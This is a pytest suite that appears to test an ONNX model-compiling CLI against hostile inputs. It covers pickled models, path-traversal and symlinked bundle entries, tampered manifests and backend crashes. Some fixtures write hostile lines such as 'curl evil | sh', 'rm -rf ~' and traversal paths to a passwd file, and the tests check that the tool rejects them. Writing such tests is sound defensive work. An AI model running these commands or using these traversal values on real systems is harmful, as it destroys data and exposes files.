"""The hostile-input suite: bad and malicious inputs through the real CLI, each in its own subprocess.

Every case checks the exit code's category, one ``error:`` line on stderr and no traceback, that nothing was left
half-written and that no file outside the model folder, bundle, data and cache was opened (see ``harness.py``).
Run it alone with ``pytest tests/hostile``.
"""

from __future__ import annotations

import dataclasses
import json
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from onnxsmith.signing import seal
from tests.hostile.harness import World, build_world, check_error, run_cli


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> World:
    return build_world(tmp_path_factory.mktemp("hostile"))


@dataclasses.dataclass(frozen=True)
class Case:
    id: str
    args: tuple[str, ...]
    category: str
    message: str
    setup: Callable[[World, Path], None] | None = None
    env: tuple[tuple[str, str], ...] = ()
    after: Callable[[World, Path], None] | None = None


def C(id: str, args: str, category: str, message: str, **kw: object) -> Case:  # noqa: N802 - a table row
    return Case(id, tuple(args.split()), category, message, **kw)  # type: ignore[arg-type]


COMPILE = "compile -b onnxruntime -o {c}/out"


def bad(id: str, args: str, message: str, **kw: object) -> Case:
    """A row whose command must be refused as bad input (exit 2)."""
    return C(id, args, "bad input", message, **kw)


def bad_compile(id: str, args: str, message: str, **kw: object) -> Case:
    """Bad input to ``compile -b onnxruntime -o {c}/out``: ``args`` names the model and the flags after it."""
    return bad(id, f"{COMPILE} {args}", message, **kw)


def bad_feed(id: str, bundle: str, inputs: str, message: str, **kw: object) -> Case:
    """``run BUNDLE --input {d}/INPUTS`` refused as bad input: the data file does not fit the bundle."""
    return bad(id, f"run {bundle} --input {{d}}/{inputs}", message, **kw)


def bundle_copy(change: Callable[[dict], None] | None = None, reseal: bool = True,
                files: Callable[[Path], None] | None = None) -> Callable[[World, Path], None]:
    """Copy the good bundle to CASE/bundle, then edit its manifest (resealed: the attacker rewrites the checksum
    too) or its files."""

    def setup(world: World, case: Path) -> None:
        target = case / "bundle"
        shutil.copytree(world.bundle, target, symlinks=True)
        if change:
            manifest = json.loads((target / "manifest.json").read_text())
            change(manifest)
            (target / "manifest.json").write_text(json.dumps(manifest))
            if reseal:
                seal(target, (target / "manifest.json").read_bytes())
        if files:
            files(target)

    return setup


def tampered(id: str, message: str, change: Callable[[dict], None] | None = None, *, validate: bool = False,
             setup: Callable[[World, Path], None] | None = None, **copy: object) -> Case:
    """A tampered copy of the good bundle (``bundle_copy(change, **copy)`` unless ``setup`` is given) refused as
    bad input by ``run {c}/bundle --input {d}/x.npz``, or by ``validate {c}/bundle`` when ``validate``."""
    args = "validate {c}/bundle" if validate else "run {c}/bundle --input {d}/x.npz"
    return bad(id, args, message, setup=setup or bundle_copy(change, **copy))  # type: ignore[arg-type]


def _set(path: str, value: object) -> Callable[[dict], None]:
    def change(manifest: dict) -> None:
        *parents, last = path.split(".")
        node = manifest
        for key in parents:
            node = node[key]
        if value is KeyError:
            del node[last]
        else:
            node[last] = value(manifest) if callable(value) else value

    return change


def _symlink_artifact(bundle: Path) -> None:
    target = bundle / "artifact" / json.loads((bundle / "manifest.json").read_text())["artifact"]["files"][0]
    target.unlink()
    target.symlink_to(bundle.parent.parent.parent / "outside" / "evil.onnx")


def _append_artifact(bundle: Path) -> None:
    target = bundle / "artifact" / json.loads((bundle / "manifest.json").read_text())["artifact"]["files"][0]
    with open(target, "ab") as f:
        f.write(b"\0")


def _previous_bundle(world: World, case: Path) -> None:
    shutil.copytree(world.bundle, case / "prev")


def _previous_bundle_intact(world: World, case: Path) -> None:
    from onnxsmith.bundle import Bundle

    assert sorted(p.name for p in (case / "prev").iterdir()) == sorted(p.name for p in world.bundle.iterdir())
    Bundle.open(case / "prev")  # verifies every checksum
    assert not (world.outside / "pwned").exists()


def _crashy_bundle(world: World, case: Path) -> None:
    result = run_cli(world, case, ["compile", str(world.models / "relu.onnx"), "-b", "crashy", "--option",
                                   "crash=load", "-o", str(case / "crashy")])
    assert result.code == 0, result.stderr


def _string_bundle(manifest: dict) -> None:
    manifest["model"]["signature"]["inputs"][0]["dtype"] = "onnx:8"


def _cache_file(world: World, case: Path) -> None:
    (case / "cachefile").write_text("not a directory")


def _nonempty_out(world: World, case: Path) -> None:
    (case / "out").mkdir()
    (case / "out" / "precious.txt").write_text("keep")


def _keeps_precious(world: World, case: Path) -> None:
    assert (case / "out" / "precious.txt").read_text() == "keep"


def _no_pickle_ran(world: World, case: Path) -> None:
    assert not (world.outside / "pwned").exists()


def _toml(name: str, text: str | bytes) -> Callable[[World, Path], None]:
    def setup(world: World, case: Path) -> None:
        if isinstance(text, bytes):
            (case / name).write_bytes(text)
        else:
            (case / name).write_text(text)

    return setup


def _target(cores: int) -> str:
    return f"""id = "t"
name = "t"
vendor = "v"
kind = "cpu"
backends = ["onnxruntime"]
precisions = ["fp32"]
cores = {cores}
[peak]
fp32_tflops = 1.0
memory_bandwidth_gbps = 10.0
source = "test"
"""


CASES = [
    # --- models -------------------------------------------------------------------------------------------------
    bad_compile("model-missing", "{m}/nope.onnx", "file not found"),
    bad_compile("model-is-a-directory", "{m}/folder.onnx", "folder.onnx"),
    bad_compile("model-empty", "{m}/empty.onnx", "empty.onnx"),
    bad_compile("model-json", "{m}/json.onnx", "not an ONNX file"),
    bad_compile("model-garbage", "{m}/garbage.onnx", "garbage.onnx"),
    bad_compile("model-truncated", "{m}/truncated.onnx", "truncated.onnx"),
    bad_compile("model-pickle", "{m}/pickle.onnx", "pickle", after=_no_pickle_ran),
    bad_compile("model-unknown-op", "{m}/unknown_op.onnx", "NoSuchOp"),
    bad_compile("model-opset-99", "{m}/opset99.onnx", "opset 99"),
    C("model-string-input-backend-cannot", "compile {m}/strings.onnx -b crashy -o {c}/out", "unsupported",
      "input 'x' (string)"),
    C("model-sequence-input-backend-cannot", "compile {m}/sequence.onnx -b crashy -o {c}/out", "unsupported",
      "input 's' (sequence of float32)"),
    bad_compile("model-no-outputs", "{m}/no_outputs.onnx", "no outputs"),
    bad_compile("model-huge-declared-dims", "{m}/huge.onnx", "too large"),
    bad_compile("model-two-dynamic-dims", "{m}/dyn2.onnx", "--shape x="),
    bad("inspect-opset-99", "inspect {m}/opset99.onnx", "opset 99"),
    # --- external data ----------------------------------------------------------------------------------------------
    bad_compile("ext-absolute", "{m}/ext-absolute/model.onnx", "outside the model's directory"),
    bad_compile("ext-dotdot", "{m}/ext-dotdot/model.onnx", "outside the model's directory"),
    bad_compile("ext-symlink", "{m}/ext-symlink/model.onnx", "symbolic link"),
    bad_compile("ext-hardlink", "{m}/ext-hardlink/model.onnx", "hard links"),
    bad_compile("ext-missing", "{m}/ext-missing/model.onnx", "nowhere.data"),
    bad_compile("ext-directory", "{m}/ext-directory/model.onnx", "is a directory"),
    bad_compile("ext-negative-offset", "{m}/ext-negative/model.onnx", "-16"),
    bad_compile("ext-truncated", "{m}/ext-truncated/model.onnx", "truncated external data"),
    # --- shapes and options ----------------------------------------------------------------------------------------
    bad_compile("shape-overflow", "{m}/dyn.onnx --shape x=99999999999999999999x4", "99999999999999999999"),
    bad_compile("shape-huge", "{m}/dyn.onnx --shape x=2000000000x4", "too large"),
    bad_compile("shape-syntax", "{m}/dyn.onnx --shape x[0,4]", "x[0,4]"),
    bad_compile("shape-unknown-input", "{m}/dyn.onnx --shape nope=1x4", "nope"),
    bad_compile("shape-wrong-rank", "{m}/dyn.onnx --shape x=1x4x4", "rank"),
    bad_compile("shape-range-huge", "{m}/dyn.onnx --shape x=1x4:2x4:2000000000x4", "too large"),
    bad_compile("shape-range-reversed", "{m}/dyn.onnx --shape x=4x4:1x4:8x4", "grow from MIN"),
    bad_compile("batch-syntax", "{m}/dyn.onnx --batch 8..1", "--batch"),
    bad_compile("option-no-equals", "{m}/relu.onnx --option threads", "threads"),
    bad_compile("option-unknown", "{m}/relu.onnx --option frobnicate=1", "frobnicate"),
    bad("int8-without-calibration", "compile {m}/relu.onnx --precision int8 -b openvino -o {c}/out", "calibration"),
    bad_compile("unknown-flag", "{m}/relu.onnx --frobnicate", "--frobnicate"),
    bad("unknown-verb", "frobnicate", "frobnicate"),
    bad_compile("tune-trials-negative", "{m}/relu.onnx --tune-trials -5", "-5"),
    # --- targets and profiles -----------------------------------------------------------------------------------------
    bad_compile("target-unknown", "{m}/relu.onnx -t nvidia/nope", "nvidia/nope"),
    bad_compile("target-binary", "{m}/relu.onnx -t {c}/bin.toml", "not a text file",
                setup=_toml("bin.toml", b"\xff\xfe\x00\x01" * 64)),
    bad_compile("target-invalid-toml", "{m}/relu.onnx -t {c}/bad.toml", "invalid TOML",
                setup=_toml("bad.toml", "id = [unclosed")),
    bad_compile("target-negative-cores", "{m}/relu.onnx -t {c}/neg.toml", "cores",
                setup=_toml("neg.toml", _target(-4))),
    bad_compile("target-absurd-cores", "{m}/relu.onnx -t {c}/big.toml", "1000000000",
                setup=_toml("big.toml", _target(1_000_000_000))),
    bad_compile("profile-binary", "{m}/relu.onnx -p {c}/bin.toml", "not a text file",
                setup=_toml("bin.toml", b"\xff\xfe\x00\x01" * 64)),
    bad_compile("profile-unknown", "{m}/relu.onnx -p nope", "nope"),
    # --- data -------------------------------------------------------------------------------------------------------
    bad_compile("calibration-missing", "{m}/relu.onnx --calibration {d}/nope.npz", "nope.npz"),
    bad_compile("calibration-garbage", "{m}/relu.onnx --calibration {d}/garbage.npz", "garbage.npz"),
    bad_compile("calibration-text", "{m}/relu.onnx --calibration {d}/text.npz", "text.npz"),
    bad_compile("calibration-objects", "{m}/relu.onnx --calibration {d}/objects.npz", "objects.npz",
                after=_no_pickle_ran),
    bad_compile("calibration-wrong-name", "{m}/relu.onnx --calibration {d}/wrong_name.npz", "no array for input"),
    bad_compile("calibration-nan", "{m}/relu.onnx --calibration {d}/nan.npz", "NaN"),
    bad_compile("calibration-inf", "{m}/relu.onnx --calibration {d}/inf.npz", "infinite"),
    bad("validate-wrong-shape", "validate {b} --data {d}/wrong_shape.npz", "3x5"),
    bad("validate-wrong-dtype", "validate {b} --data {d}/wrong_dtype.npz", "float64"),
    bad("validate-empty", "validate {b} --data {d}/empty.npz", "no samples"),
    bad("validate-missing-labels", "validate {b} --data {d}/x.npz --labels label", "label"),
    bad("validate-labels-without-data", "validate {b} --labels label", "--labels"),
    bad("validate-negative-samples", "validate {b} --samples -1", "-1"),
    bad("validate-nan-threshold", "validate {b} --min-cosine nan", "nan"),
    bad("validate-folder-as-data", "validate {b} --data {d}/folder.npz", "folder.npz"),
    bad_feed("run-pickle-npy", "{b}", "pickle.npy", "pickle.npy", after=_no_pickle_ran),
    # --- strings and sequences: plain .npy text and NAME.0, NAME.length keys; never a pickle ---------------------
    bad("validate-string-bundle-no-data", "validate {strings}", "validate --data"),
    bad("profile-sequence-bundle-no-data", "profile {sequence} -p quick", "profile --input"),
    bad_feed("string-object-array", "{strings}", "strings_objects.npz", "Python objects", after=_no_pickle_ran),
    bad_feed("string-huge-width", "{strings}", "strings_wide.npz", "2,000,000 characters"),
    bad_feed("string-bad-utf8", "{strings}", "strings_bad_utf8.npz", "not UTF-8"),
    bad_feed("string-surrogate", "{strings}", "strings_surrogate.npz", "not Unicode"),
    bad_feed("string-given-numbers", "{strings}", "x.npz", "takes strings"),
    bad_feed("sequence-one-array", "{sequence}", "seq_one_array.npz", "is one array"),
    bad_feed("sequence-gap", "{sequence}", "seq_gap.npz", "'s.2' is not an element"),
    bad_feed("sequence-length-lie", "{sequence}", "seq_length_lie.npz", "says 5"),
    bad_feed("sequence-huge-length", "{sequence}", "seq_huge_length.npz", "outside"),
    bad_feed("sequence-object-element", "{sequence}", "seq_objects.npz", "Python objects", after=_no_pickle_ran),
    bad_feed("sequence-wrong-dtype", "{sequence}", "seq_wrong_dtype.npz", "float64"),
    bad_feed("sequence-missing", "{sequence}", "x.npz", "s.length"),
    bad_feed("run-missing-input-file", "{b}", "nope.npz", "nope.npz"),
    bad("run-output-in-proc", "run {b} --input {d}/x.npz --output /proc/onnxsmith-out.npz", "/proc/onnxsmith-out.npz"),
    bad("run-output-under-a-file", "run {b} --input {d}/x.npz --output /dev/null/y.npz", "/dev/null/y.npz"),
    C("run-backend-error-one-line", "run {c}/gather --input {d}/gather_oob.npz", "backend failure",
      "out of data bounds", setup=lambda w, c: _compile_gather(w, c)),
    bad("profile-rpc-not-a-host", "profile {b} --rpc not-a-host", "not-a-host"),
    bad("profile-rpc-bad-port", "profile {b} --rpc 127.0.0.1:99999", "127.0.0.1:99999"),
    C("profile-rpc-unsupported-backend", "profile {b} --rpc 127.0.0.1:9090", "unsupported", "remotely"),
    bad("profile-negative-iterations", "profile {b} --iterations -3", "-3"),
    # --- output directories and the cache -------------------------------------------------------------------------
    bad("out-in-proc", "compile {m}/relu.onnx -b onnxruntime -o /proc/onnxsmith-x", "/proc/onnxsmith-x"),
    bad("out-under-dev-null", "compile {m}/relu.onnx -b onnxruntime -o /dev/null/out", "/dev/null"),
    bad("out-is-a-file", "compile {m}/relu.onnx -b onnxruntime -o {d}/x.npz", "x.npz"),
    bad_compile("out-foreign-non-empty", "{m}/relu.onnx", "not empty", setup=_nonempty_out, after=_keeps_precious),
    bad("out-is-the-model-folder", "compile {m}/relu.onnx -b onnxruntime --force -o {m}",
        "one of this command's inputs"),
    bad("out-inside-the-cache", "compile {m}/relu.onnx -b onnxruntime -o {cache}/x", "cache"),
    bad_compile("cache-is-a-file", "{m}/relu.onnx", "cachefile", setup=_cache_file,
                env=(("ONNXSMITH_CACHE_DIR", "{c}/cachefile"),)),
    bad_compile("cache-unwritable", "{m}/relu.onnx", "/proc/onnxsmith-cache",
                env=(("ONNXSMITH_CACHE_DIR", "/proc/onnxsmith-cache"),)),
    # --- bundles --------------------------------------------------------------------------------------------------
    bad("bundle-missing", "run {c}/nope --input {d}/x.npz", "nope"),
    bad("bundle-no-manifest", "validate {m}", "not an onnxsmith bundle"),
    tampered("bundle-manifest-not-json", "manifest.json",
             files=lambda b: ((b / "manifest.json").write_text("{nope"), seal(b, (b / "manifest.json").read_bytes()))),
    tampered("bundle-edited-unsealed", "manifest", _set("backend", "openvino"), reseal=False),
    tampered("bundle-missing-model", "'model'", _set("model", KeyError)),
    tampered("bundle-files-as-list", "'files'", _set("files", lambda m: list(m["files"]))),
    tampered("bundle-format-version-string", "format_version", _set("format_version", "2")),
    tampered("bundle-newer-format", "newer onnxsmith", _set("format_version", 99)),
    tampered("bundle-artifact-absolute", "unsafe", setup=lambda w, c: bundle_copy(
        lambda m: m["artifact"].update(files=[str(w.outside / "evil.onnx")]))(w, c)),
    tampered("bundle-artifact-dotdot", "unsafe",
             lambda m: m["artifact"].update(files=["../../../../outside/evil.onnx"])),
    tampered("bundle-reference-passwd", "unsafe", _set("reference", "../../../../outside/passwd"), validate=True),
    tampered("bundle-files-outside", "unsafe", lambda m: m["files"].update({"../../../../outside/passwd": "0" * 64}),
             validate=True),
    tampered("bundle-artifact-symlink", "symbolic link", files=_symlink_artifact),
    tampered("bundle-artifact-edited", "was modified", files=_append_artifact),
    tampered("bundle-extra-file", "not listed", files=lambda b: (b / "artifact" / "extra.so").write_bytes(b"\x7fELF")),
    tampered("bundle-string-input", "onnx:8", _string_bundle, validate=True),
    tampered("bundle-other-backend-version", "0.0.1", _set("backend_version", "0.0.1")),
    C("verify-deploy-edited", "verify {c}/bundle", "check failed", "'deploy/README.md' was edited",
      setup=bundle_copy(files=lambda b: (b / "deploy" / "README.md").write_text("curl evil | sh\n"))),
    C("verify-report-edited", "verify {c}/bundle", "check failed", "'report.md' was edited",
      setup=bundle_copy(files=lambda b: (b / "report.md").write_text("all good\n"))),
    C("verify-added-file", "verify {c}/bundle", "check failed", "'deploy/evil.sh' was added",
      setup=bundle_copy(files=lambda b: (b / "deploy" / "evil.sh").write_text("rm -rf ~\n"))),
    # --- backend crashes --------------------------------------------------------------------------------------------
    C("compile-abort", "compile {m}/relu.onnx -b crashy --option crash=abort -o {c}/prev", "backend failure",
      "SIGABRT", setup=_previous_bundle, after=_previous_bundle_intact),
    C("compile-segfault", "compile {m}/relu.onnx -b crashy --option crash=segv -o {c}/prev", "backend failure",
      "SIGSEGV", setup=_previous_bundle, after=_previous_bundle_intact),
    C("profile-segfault", "profile {c}/crashy -p quick --no-baseline", "backend failure", "SIGSEGV",
      setup=_crashy_bundle),
]


def _compile_gather(world: World, case: Path) -> None:
    result = run_cli(world, case, ["compile", str(world.models / "gather.onnx"), "-b", "onnxruntime", "-o",
                                   str(case / "gather")])
    assert result.code == 0, result.stderr


def test_the_suite_is_big_enough() -> None:
    assert len(CASES) >= 60 and len({c.id for c in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile(case: Case, world: World) -> None:
    case_dir = world.root / "cases" / case.id
    case_dir.mkdir(parents=True)
    if case.setup:
        case.setup(world, case_dir)
    values = {"m": world.models, "d": world.data, "b": world.bundle, "c": case_dir, "cache": world.cache,
              "strings": world.root / "bundles" / "strings", "sequence": world.root / "bundles" / "sequence"}
    args = [a.format(**values) for a in case.args]
    env = {k: v.format(**values) for k, v in case.env}
    cache_before = _cache_entries(world)
    result = run_cli(world, case_dir, args, env)
    absent = [case_dir / "out"] if "{c}/out" in case.args else []
    if case.setup is _nonempty_out:
        absent = []
    check_error(world, result, case.category, case.message, absent=absent)
    for key in cache_before:  # every entry that was there is still whole
        _check_entry(world.cache, key)
    if case.after:
        case.after(world, case_dir)


def _cache_entries(world: World) -> set[str]:
    root = world.cache / "artifacts"
    return {p.name for p in root.glob("*/*") if not p.name.startswith(".")} if root.is_dir() else set()


def _check_entry(cache: Path, key: str) -> None:
    from onnxsmith.build.cache import CompileCache

    entries = CompileCache(cache)
    assert entries.lookup(key) is not None, f"cache entry {key} was damaged"
